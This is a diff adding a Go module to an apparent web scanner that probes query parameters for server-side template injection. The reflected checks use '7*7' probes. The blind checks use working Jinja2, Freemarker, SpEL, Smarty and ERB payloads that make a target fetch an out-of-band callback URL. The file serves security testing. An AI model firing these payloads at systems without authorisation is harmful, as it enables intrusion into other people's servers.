@@ -0,0 +1,100 @@
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+)
+
+type sstiPayload struct {
+	expr    string
+	engines string
+}
+
+// sstiPayloads all evaluate 7*7 in a different template syntax.
+var sstiPayloads = []sstiPayload{
+	{"{{7*7}}", "Jinja2/Twig/Nunjucks"},
+	{"${7*7}", "Freemarker/Velocity/Thymeleaf/EL"},
+	{"#{7*7}", "Ruby (Slim/Haml)/JSF EL"},
+	{"<%=7*7%>", "ERB/EJS"},
+}
+
+// detectTemplateInjection injects each template expression into every query
+// parameter of r and reports parameters where the evaluated result, but
+// not the expression itself, shows up in the response.
+func detectTemplateInjection(client *http.Client, r request, headers headerArgs, baseBody []byte) {
+	if bytes.Contains(baseBody, []byte("49")) {
+		return
+	}
+
+	u, err := url.Parse(r.url)
+	if err != nil {
+		return
+	}
+
+	found := make(map[string]bool)
+	for _, p := range sstiPayloads {
+		variants := rewriteParams(u, func(_, _ string) string {
+			return url.QueryEscape(p.expr)
+		})
+
+		for _, v := range variants {
+			if found[v.param] {
+				continue
+			}
+
+			_, body, err := probe(client, r.method, v.url, r.body, headers)
+			if err != nil {
+				fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+				continue
+			}
+
+			if bytes.Contains(body, []byte("49")) && !bytes.Contains(body, []byte(p.expr)) {
+				fmt.Printf("SSTI-POSSIBLE:%s %s (%s)\n", v.param, v.url, p.engines)
+				found[v.param] = true
+			}
+		}
+	}
+}
+
+// sstiBlindPayloads fetch the URL substituted for %s when evaluated, for
+// injection points whose output isn't reflected. Each uses the engine's
+// own way of opening a URL rather than a shell command.
+var sstiBlindPayloads = []sstiPayload{
+	{"{{cycler.__init__.__globals__.__builtins__.__import__('urllib.request').request.urlopen('%s')}}", "Jinja2"},
+	{`${"freemarker.template.utility.ObjectConstructor"?new()("java.net.URL","%s").openStream()}`, "Freemarker"},
+	{"${new java.net.URL('%s').openStream()}", "Thymeleaf/SpEL"},
+	{"{fetch file='%s'}", "Smarty"},
+	{"<%%= require 'open-uri'; URI.open('%s') %%>", "ERB"},
+}
+
+// detectBlindTemplateInjection injects each of sstiBlindPayloads, with a
+// unique OOB callback, into every query parameter of r. A callback, found
+// when the OOB server is polled, is reported with the parameter and the
+// engine whose syntax triggered it.
+func detectBlindTemplateInjection(client *http.Client, oob *oobTracker, r request, headers headerArgs) {
+	u, err := url.Parse(r.url)
+	if err != nil {
+		return
+	}
+
+	for _, p := range sstiBlindPayloads {
+		variants := rewriteParams(u, func(name, _ string) string {
+			param, err := url.QueryUnescape(name)
+			if err != nil {
+				param = name
+			}
+			callback := oob.URL("SSTI-BLIND-POSSIBLE", r.url, fmt.Sprintf("%s (%s)", param, p.engines))
+			return url.QueryEscape(fmt.Sprintf(p.expr, callback))
+		})
+
+		for _, v := range variants {
+			_, _, err := probe(client, r.method, v.url, r.body, headers)
+			if err != nil {
+				fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+			}
+		}
+	}
+}